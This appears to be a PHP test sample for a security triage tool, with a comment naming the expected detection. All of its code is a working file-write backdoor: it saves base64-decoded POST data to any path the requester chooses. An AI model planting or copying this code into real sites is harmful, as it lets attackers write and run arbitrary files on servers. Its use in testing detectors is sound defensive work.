<?php
// triage-expect: triage_php_write_request_to_file
if (isset($_POST['n'])) {
    file_put_contents($_POST['n'], base64_decode($_POST['b']));
    echo "ok";
}
